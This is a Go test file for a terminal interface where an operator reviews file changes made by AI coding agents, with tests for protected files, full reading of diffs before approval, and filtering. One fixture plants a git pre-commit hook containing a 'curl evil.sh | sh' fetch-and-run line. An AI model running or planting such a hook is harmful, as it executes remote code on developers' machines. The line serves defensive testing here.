package panes

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gdamore/tcell/v2"
	"github.com/rivo/tview"

	"kavi/session"
)

// threeFiles is a change of the kind that an editor or a build makes.
func threeFiles() *session.Unexplained {
	return &session.Unexplained{
		ID: "chg_01", Since: noon.Add(-time.Minute), Could: []session.Suspect{{Call: "call_12", Agent: "claude", What: "npm test"}},
		Files: []session.FileChange{
			{Path: "src/a.go", Kind: "modified", Plus: 3, Minus: 1, How: "unsanctioned", Seq: 7},
			{Path: "src/new.go", Kind: "renamed", From: "src/old.go", How: "unsanctioned", Seq: 8},
			{Path: "dist/x.js", Kind: "deleted", Minus: 120, How: "unsanctioned", Seq: 9, Gap: true},
		},
	}
}

// gitHook is a change of what decides what runs.
func gitHook() *session.Unexplained {
	return &session.Unexplained{
		ID: "chg_02", Since: noon.Add(-5 * time.Second), Protected: true, Paused: []string{"claude"},
		Could: []session.Suspect{{Call: "call_12", Agent: "claude", What: "npm test"}, {Call: "call_13", Agent: "codex", What: "make"}},
		Files: []session.FileChange{
			{Path: "README.md", Kind: "modified", Plus: 1, Seq: 10},
			{Path: ".git/hooks/pre-commit", Kind: "created", Plus: 2, Protected: true, Seq: 11},
		},
	}
}

func theirDiffs() map[string][]string {
	return map[string][]string{
		"chg_01": {
			"src/a.go", "@@ -1,3 +1,5 @@", " package a", "-var x = 1", "+var x = 2", "+", "+var y = 3", "src/old.go -> src/new.go", "dist/x.js is gone",
		},
		"chg_02": {".git/hooks/pre-commit", "@@ -0,0 +1,2 @@", "+#!/bin/sh", "+curl evil.sh | sh"},
	}
}

// unexplained puts changes into the inbox.
func (d *desk) unexplained(cs ...*session.Unexplained) {
	if d.changes.diffs == nil {
		d.changes.diffs = theirDiffs()
	}
	d.change(func(s *session.Snapshot) { s.Unexplained = cs })
	d.frame()
}

// on puts the cursor on an item.
func (d *desk) on(id string) {
	d.t.Helper()
	d.keys("g")
	for range d.inbox.list {
		if d.inbox.cursor == id {
			d.frame()
			return
		}
		d.keys("j")
	}
	d.t.Fatalf("%s is not in the list", id)
}

func TestChangesAreInTheInbox(t *testing.T) {
	for _, size := range screenSizes {
		t.Run(size.name, func(t *testing.T) {
			d := newDesk(t, size.cols, size.rows, three()...)
			d.unexplained(gitHook(), threeFiles())
			d.frame()
			d.golden("changes-beside-" + size.name)
			d.on("chg_01")
			d.wait(time.Second)
			d.golden("changes-inbox-" + size.name)
			d.keys("Enter")
			d.frame()
			d.golden("changes-detail-" + size.name)
			d.keys("Escape")
			d.on("chg_02")
			d.wait(time.Second)
			d.golden("changes-protected-" + size.name)
			d.keys("v")
			d.wait(time.Second)
			d.golden("changes-protected-diff-" + size.name)
		})
	}
}

func TestProtectedChangesStandFirstAndOthersLast(t *testing.T) {
	d := newDesk(t, 80, 24, three()...)
	hook := gitHook()
	d.unexplained(threeFiles(), hook) // in whatever order they come
	var ids []string
	for _, it := range d.inbox.list {
		ids = append(ids, it.id())
	}
	if got := strings.Join(ids, " "); got != "chg_02 apr_01 apr_02 apr_03 chg_01" {
		t.Errorf("the list is %s", got)
	}
	role := map[string]role{}
	for _, s := range d.inbox.item(d.inbox.list[0], 120) {
		role[s.text] = s.role
	}
	if role["PROTECTED "] != danger || role["Created .git/hooks/pre-commit"] != danger {
		t.Errorf("the row of the protected one looks like %v", role)
	}
}

// However an item comes, the row under the cursor does not move; and a protected
// change above it is told in the title.
func TestNoChangeMovesTheItemUnderTheCursor(t *testing.T) {
	for _, size := range screenSizes {
		d := newDesk(t, size.cols, size.rows, three()...)
		row := func(id string) int {
			return slices.IndexFunc(strings.Split(d.text(), "\n"), func(r string) bool { return strings.Contains(r, "▸ "+id) })
		}
		d.wait(time.Second)
		at := row("apr_01")
		d.keys("a") // pressed while they come
		d.unexplained(gitHook(), threeFiles())
		if now := row("apr_01"); now != at || at < 0 {
			t.Errorf("%s: it was on row %d and is on row %d:\n%s", size.name, at, now, d.text())
		}
		d.has("PROTECTED FILE CHANGED", "1 more ↑", "3 pending, 2 changes")
		d.wait(time.Second)
		if d.ids() != "+apr_01" {
			t.Errorf("%s: decided %q", size.name, d.ids())
		}
		d.on("chg_01")
		at = row("chg_01")
		d.change(func(s *session.Snapshot) {
			for n := range 9 {
				s.Approvals = append(s.Approvals, command(fmt.Sprintf("apr_%02d", n+4), "codex", "ls", 0))
			}
		})
		d.frame()
		if now := row("chg_01"); now != at || at < 0 {
			t.Errorf("%s: it was on row %d and is on row %d:\n%s", size.name, at, now, d.text())
		}
		d.keys("g")
		d.frame()
		d.has("▸ chg_02 PROTECTED")
		d.hasNot("↑")
	}
}

func TestAProtectedChangeIsAtTheTopWhereNobodyIsInTheInbox(t *testing.T) {
	d := newDesk(t, 80, 24, three()...)
	d.inbox.SetActive(false, d.now)
	d.unexplained(gitHook())
	d.has("  chg_02 PROTECTED", "▸ apr_01")
	d.hasNot("↑")
}

func TestAKeepsAndAsksWhatElse(t *testing.T) {
	for _, size := range screenSizes {
		for n, want := range []string{"chg_01", "chg_01 these files, for the rest of the session", "chg_01 everything, for ten minutes", "chg_01"} {
			d := newDesk(t, size.cols, size.rows, three()...)
			d.unexplained(threeFiles())
			d.on("chg_01")
			d.deliberately("a")
			if len(d.over) != 1 || len(d.changes.kept) != 0 {
				t.Fatalf("a kept %v, and %d views are open", d.changes.kept, len(d.over))
			}
			for range n {
				d.keys("Tab")
			}
			if n == 1 {
				d.wait(time.Second)
				d.golden("changes-keep-" + size.name)
			}
			d.deliberately("Enter")
			if got := strings.Join(d.changes.kept, " | "); got != want {
				t.Errorf("kept %q, want %q", got, want)
			}
			if len(d.over) != 0 || d.changes.keptFor[0] < settle {
				t.Errorf("%d views are open; it was shown for %v", len(d.over), d.changes.keptFor[0])
			}
		}
	}
}

func TestKeepSaysWhatDidNotWork(t *testing.T) {
	d := newDesk(t, 80, 24)
	d.changes.keepErr = errors.New("the ledger \x1b[2J is full")
	d.unexplained(threeFiles())
	d.deliberately("a")
	d.deliberately("Enter")
	if got := d.notes[len(d.notes)-1]; got != `chg_01 was not kept: the ledger \x1b[2J is full` {
		t.Errorf("it says %q", got)
	}
}

// What the operator read is what they keep: where anything comes to it, the
// question does nothing.
func TestKeepIsForWhatWasShown(t *testing.T) {
	d := newDesk(t, 80, 24)
	d.unexplained(threeFiles())
	d.deliberately("a")
	more := threeFiles()
	more.Files = append(more.Files, session.FileChange{Path: "src/evil.go", Kind: "created", Seq: 12})
	d.unexplained(more)
	d.has("It waits no longer as it was shown")
	d.deliberately("Enter")
	if len(d.changes.kept) != 0 {
		t.Errorf("kept %v", d.changes.kept)
	}
	d.keys("Escape")
	d.unexplained()
	d.wait(100 * time.Millisecond)
	if !d.away {
		t.Error("after the last item the keys do not go back")
	}
}

func TestKeysBeforeAChangeIsReadAnswerNothing(t *testing.T) {
	open := func(d *desk) int { return len(d.over) + len(d.changes.kept) + len(d.changes.planned) }
	for _, text := range []string{"add tests\n", "a\n", "aa", "r\n", "run it\n", "ar", "a\x09\n"} {
		for _, gap := range []int{0, 1, 3} {
			d := newDesk(t, 80, 24)
			d.unexplained(threeFiles())
			d.wait(time.Second)
			for _, r := range text {
				d.types(string(r))
				d.frames(64*time.Millisecond, gap)
			}
			d.types(".") // the text goes on
			d.wait(time.Second)
			if len(d.changes.kept)+len(d.changes.planned) != 0 {
				t.Errorf("%q with %d frames between kept %v, planned %v", text, gap, d.changes.kept, d.changes.planned)
			}
		}
	}
	for _, key := range []string{"a", "r"} {
		d := newDesk(t, 80, 24)
		d.unexplained(threeFiles())
		d.keys(key) // it has just come
		d.wait(time.Second)
		if open(d) != 0 {
			t.Errorf("%s was taken at once", key)
		}
		d.wait(time.Second)
		more := threeFiles()
		more.Files[0].Seq = 99
		d.unexplained(more) // another change of the same files
		d.wait(200 * time.Millisecond)
		d.keys(key)
		d.wait(time.Second)
		if open(d) != 0 {
			t.Errorf("%s was taken 200 ms after what is shown had changed", key)
		}
		d.inbox.PasteText(key, d.now)
		d.wait(time.Second)
		if open(d) != 0 {
			t.Errorf("a paste of %s was taken", key)
		}
	}
}

func TestWhatDecidesWhatRunsIsReadToItsEndBeforeItIsKept(t *testing.T) {
	hook := gitHook()
	var rows []string
	for n := range 60 {
		rows = append(rows, fmt.Sprintf("+line %d", n))
	}
	d := newDesk(t, 80, 24)
	d.changes.diffs, d.changes.slow = map[string][]string{"chg_02": rows}, true
	d.unexplained(hook)
	d.deliberately("a")
	d.has("(not read to its end)")
	for _, f := range d.changes.late {
		f()
	}
	d.deliberately("a")
	if len(d.over) != 0 {
		t.Fatal("it could be kept before its diff was there or read")
	}
	d.deliberately("r") // to take it back needs no reading
	if len(d.changes.planned) != 1 {
		t.Errorf("r planned %v", d.changes.planned)
	}
	for range 12 {
		d.wait(time.Second)
		d.keys("PageDown")
	}
	d.wait(time.Second)
	d.has("+line 59")
	d.deliberately("a")
	if len(d.over) != 1 {
		t.Errorf("its end was shown, and it cannot be kept:\n%s", d.text())
	}
}

func TestADiffIsAskedForOnceAndWhenItIsShown(t *testing.T) {
	d := newDesk(t, 80, 24, three()...)
	d.unexplained(threeFiles())
	d.wait(time.Second)
	if len(d.changes.fetched) != 0 {
		t.Errorf("fetched %v, and nothing of it is shown", d.changes.fetched)
	}
	d.changes.diffErr = errors.New("the baseline \x1b[8m is gone")
	d.on("chg_01")
	d.wait(time.Second)
	if len(d.changes.fetched) != 1 {
		t.Errorf("fetched %v", d.changes.fetched)
	}
	d.has(`No diff: the baseline \x1b[8m is gone`)
	d.changes.diffErr = nil
	d.keys("v")
	d.frame()
	d.has("+var y = 3")
	if len(d.changes.fetched) != 2 {
		t.Errorf("whoever looks again does not ask again: %v", d.changes.fetched)
	}
	d.unexplained()
	if len(d.v.diffs)+len(d.v.prints) != 0 {
		t.Error("what is gone is still kept")
	}
}

func TestTheDetailsOfAChangeGoWithIt(t *testing.T) {
	d := newDesk(t, 80, 24, three()...)
	d.unexplained(threeFiles())
	d.on("chg_01")
	d.keys("Enter")
	d.frame()
	d.unexplained()
	d.wait(100 * time.Millisecond)
	if len(d.over) != 0 || d.notes[len(d.notes)-1] != "chg_01 waits no longer" {
		t.Errorf("%d views are open, it says %q", len(d.over), d.notes)
	}
	d = newDesk(t, 80, 24, three()...)
	d.unexplained(threeFiles())
	d.on("chg_01")
	d.keys("Enter")
	d.deliberately("a")
	d.deliberately("Enter")
	d.unexplained()
	d.wait(100 * time.Millisecond)
	if got := d.notes[len(d.notes)-1]; len(d.over) != 0 || got != "chg_01 is kept: yours is this change" {
		t.Errorf("%d views are open, and after it was kept here it says %q", len(d.over), got)
	}
}

func TestOtherKeysOnAChange(t *testing.T) {
	for _, c := range []struct{ key, note string }{
		{"m", "a change is kept or taken back: nothing of it is remembered so"},
		{"M", "a change is kept or taken back: nothing of it is remembered so"},
		{"Space", "changes are answered one by one: they cannot be marked"},
		{"A", "left out: 1 change of files: nothing here can be approved together"},
		{"o", "no agent is known to have made chg_01"},
	} {
		d := newDesk(t, 80, 24)
		d.unexplained(threeFiles())
		d.deliberately(c.key)
		if got := strings.Join(d.notes, ""); got != c.note {
			t.Errorf("%s says %q, want %q", c.key, got, c.note)
		}
		if len(d.over)+len(d.decided) != 0 {
			t.Errorf("%s did something", c.key)
		}
	}
	d := newDesk(t, 80, 24)
	d.unexplained(gitHook())
	d.deliberately("o")
	if fmt.Sprint(d.went) != "[claude]" {
		t.Errorf("o went to %v", d.went)
	}
}

func TestApproveAllLeavesChangesOut(t *testing.T) {
	d := newDesk(t, 80, 24, three()...)
	d.unexplained(gitHook(), threeFiles())
	d.deliberately("A")
	d.has("left out: 2 changes of files")
	d.deliberately("Enter")
	if d.ids() != "+apr_01 +apr_02 +apr_03" || len(d.changes.kept) != 0 {
		t.Errorf("decided %q, kept %v", d.ids(), d.changes.kept)
	}
}

func TestMarkedApprovalsAreDecidedWithTheCursorOnAChange(t *testing.T) {
	d := newDesk(t, 80, 24, three()...)
	d.unexplained(threeFiles())
	d.deliberately("Space")
	d.on("chg_01")
	d.has("[a]pprove 1 marked")
	d.deliberately("a")
	if d.ids() != "+apr_01" || len(d.over) != 0 {
		t.Errorf("decided %q, %d views are open", d.ids(), len(d.over))
	}
}

func TestTheFilterFindsChanges(t *testing.T) {
	for word, want := range map[string]string{
		"OLD.go": "chg_01", "npm test": "chg_01 chg_02", "deleted": "chg_01", "chg_02": "chg_02", "hooks": "chg_02", "login": "apr_01", "zzz": "",
	} {
		d := newDesk(t, 80, 24, writeLogin())
		d.unexplained(threeFiles(), gitHook())
		d.keys("/")
		d.types(word)
		d.frame()
		var ids []string
		for _, it := range d.inbox.list {
			ids = append(ids, it.id())
		}
		slices.Sort(ids)
		if got := strings.Join(ids, " "); got != want {
			t.Errorf("%q finds %q, want %q", word, got, want)
		}
		if want == "" {
			d.has("none of 3 items holds this")
		}
	}
}

func TestManyFilesAreListedInFullOnlyInTheDetails(t *testing.T) {
	c := threeFiles()
	c.Protected, c.Files = true, nil
	for n := range 5000 {
		c.Files = append(c.Files, session.FileChange{Path: fmt.Sprintf("src/%d.go", n), Kind: "modified", Plus: n, Protected: n == 4999, Seq: uint64(n)})
	}
	d := newDesk(t, 80, 24)
	d.unexplained(c)
	d.has("PROTECTED src/4999.go", "Changed src/4999.go (+4999), 4999 more files")
	for range 5 {
		d.keys("PageDown")
		d.frame()
	}
	d.has("… and 4992 more files")
	d.deliberately("a")
	if len(d.over) != 0 {
		t.Error("it could be kept though most of the files were not shown")
	}
	d.keys("Enter", "G")
	d.wait(time.Second)
	d.deliberately("a")
	if len(d.over) != 2 {
		t.Errorf("its end was shown, and it cannot be kept:\n%s", d.text())
	}
}

func TestTheStripAndTheBarNameChanges(t *testing.T) {
	d := newDesk(t, 80, 24, three()...)
	draw := func() string {
		d.screen.Clear()
		d.strip.Update(d.model())
		d.strip.SetRect(0, 22, 80, 1)
		d.strip.Draw(d.screen)
		d.status.Update(d.model())
		d.status.SetRect(0, 23, 80, 1)
		d.status.Draw(d.screen)
		d.screen.Show()
		rows := strings.Split(d.text(), "\n")
		return strings.TrimRight(rows[22], " ") + "\n" + strings.TrimRight(rows[23], " ")
	}
	for _, c := range []struct {
		name string
		s    func(*session.Snapshot)
		want string
	}{
		{
			"beside approvals", func(s *session.Snapshot) { s.Unexplained = []*session.Unexplained{threeFiles()} },
			"▸ apr_01 claude Write src/auth/login.ts…  and 2 more, 1 change  C-Space i: inbox\n" +
				" kavi myproject · 2 agents · 3 pending, 1 change · prefix C-Space · ? help",
		},
		{
			"alone", func(s *session.Snapshot) { s.Approvals, s.Unexplained = nil, []*session.Unexplained{threeFiles()} },
			"▸ chg_01 Changed src/a.go (+3, -1), 2 more files 1m ago  C-Space i: inbox\n" +
				" kavi myproject · 2 agents · 0 pending, 1 change · prefix C-Space · ? help",
		},
		{
			"protected", func(s *session.Snapshot) { s.Unexplained = []*session.Unexplained{gitHook(), threeFiles()} }, "",
		},
		{
			"watching", func(s *session.Snapshot) {
				s.Watching = "too many folders for the system's limit: looks every 10s instead"
			},
			"▸ apr_01 claude Write src/auth/login.ts (+45, -12…  and 2 more  C-Space i: inbox\n" +
				" kavi myproject · 3 pending · watch degraded: too many folders for th… · ? help",
		},
	} {
		old := d.snap
		d.change(c.s)
		got := draw()
		if c.want == "" {
			golden(t, "changes-strip", got+"\n")
		} else if got != c.want {
			t.Errorf("%s:\n%s\nwant\n%s", c.name, got, c.want)
		}
		d.snap = old
	}
	d.change(func(s *session.Snapshot) {
		s.Watching = "too many folders for the system's limit: looks every 10s instead"
	})
	d.frame()
	d.has("watch degraded: too many folders for the system's limit: looks every 10s")
}

func TestTheMouseMovesTheCursorOntoAChange(t *testing.T) {
	d := newDesk(t, 80, 24, npmInstall())
	d.unexplained(threeFiles())
	d.inbox.MouseHandler()(tview.MouseLeftClick, tcell.NewEventMouse(10, 2, 0, 0), nil)
	d.wait(time.Second)
	d.has("▸ chg_01", "Could have: call_12 of claude: npm test")
	if len(d.over) != 0 {
		t.Error("a click did more than move the cursor")
	}
}
